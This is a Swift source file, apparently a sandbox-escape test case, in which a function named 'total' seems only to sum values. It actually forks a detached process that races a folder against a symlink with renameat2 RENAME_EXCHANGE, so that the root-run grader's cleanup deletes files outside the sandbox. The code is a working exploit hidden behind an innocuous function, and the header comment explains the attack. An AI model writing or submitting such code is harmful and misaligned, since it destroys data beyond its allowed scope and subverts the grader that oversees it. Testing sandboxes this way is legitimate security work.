// Attack: make the grader (root) delete files outside the sandbox. After the check the grader
// removes the run's scratch folder with FileManager.removeItem, which walks it by path (fts with
// FTS_NOCHDIR: lstat "x/d", then open "x/d", unlink "x/d/file1", …). A process left behind (its
// main thread gone, as in sandbox-outlive-the-check) swaps, over and over and atomically
// (renameat2 RENAME_EXCHANGE, inside the scratch folder, which Landlock allows), the folder
// "x/d" with a symbolic link to a folder outside whose file names it knows: an unlink that
// resolves "x/d" while it is the link deletes the outside file, with root's rights.
import Foundation

#if canImport(Glibc)
    import Glibc
#elseif canImport(Darwin)
    import Darwin
#endif

typealias Syscall = @convention(c) (Int, Int, Int, Int, Int, Int) -> Int
typealias Prctl = @convention(c) (Int32, UInt, UInt, UInt, UInt) -> Int32

/// Set before the fork and only read after it: the child calls nothing that takes a lock.
let rawSyscall = unsafeBitCast(dlsym(nil, "syscall"), to: Syscall.self)
let folderName = Int(bitPattern: strdup("d"))
let linkName = Int(bitPattern: strdup("z/s"))

func total(_ values: [Int]) -> Int {
    _ = (rawSyscall, folderName, linkName)
    #if arch(x86_64)
        let exitThread = 60
    #else
        let exitThread = 93
    #endif
    // Each call's process works in a folder of its own: four chances per check.
    let own = strdup("x\(Int.random(in: 0..<1_000_000_000))")
    let names: [String] = ["d", "d/sub", "z"]
    let folders = names.map { strdup($0) }
    // The names of the files in the folder outside, in a folder of the same shape.
    let files = (1...20).flatMap { [strdup("d/file\($0)"), strdup("d/sub/g\($0)")] }
    let target = strdup("/tmp/actorlings-escape-victim")
    let link = strdup("z/s")
    let name = strdup("swap-scratch")
    let prctl = dlsym(nil, "prctl").map { unsafeBitCast($0, to: Prctl.self) }
    if fork() == 0 {
        _ = setsid()
        if let prctl, let name { _ = prctl(15, UInt(bitPattern: name), 0, 0, 0) }
        let swapper: @convention(c) (UnsafeMutableRawPointer?) -> UnsafeMutableRawPointer? = { _ in
            #if arch(x86_64)
                let renameat2 = 316
            #else
                let renameat2 = 276
            #endif
            let end = time(nil) + 15
            while time(nil) < end {
                // renameat2(AT_FDCWD, "d", AT_FDCWD, "z/s", RENAME_EXCHANGE)
                _ = rawSyscall(renameat2, -100, folderName, -100, linkName, 2)
            }
            _exit(0)
        }
        guard let own, let target, let link else { _exit(0) }
        mkdir(own, 0o755)
        _ = chdir(own)
        for folder in folders { if let folder { mkdir(folder, 0o755) } }
        for file in files { if let file { close(open(file, O_CREAT | O_WRONLY, 0o644)) } }
        symlink(target, link)
        var thread = pthread_t()
        guard pthread_create(&thread, nil, swapper, nil) == 0 else { _exit(0) }
        // SYS_exit ends this thread only.
        _ = rawSyscall(exitThread, 0, 0, 0, 0, 0)
        _exit(0)
    }
    return values.reduce(0, +)
}
